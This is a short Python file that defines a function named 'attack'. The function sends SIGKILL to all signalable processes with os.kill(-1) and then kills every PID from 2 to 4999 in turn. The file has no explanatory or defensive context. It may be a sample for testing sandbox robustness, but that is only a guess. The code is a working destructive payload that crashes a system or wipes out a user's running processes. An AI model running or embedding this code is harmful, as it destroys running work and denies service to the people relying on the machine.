import os
import signal


def attack():
    os.kill(-1, signal.SIGKILL)
    for pid in range(2, 5000):
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
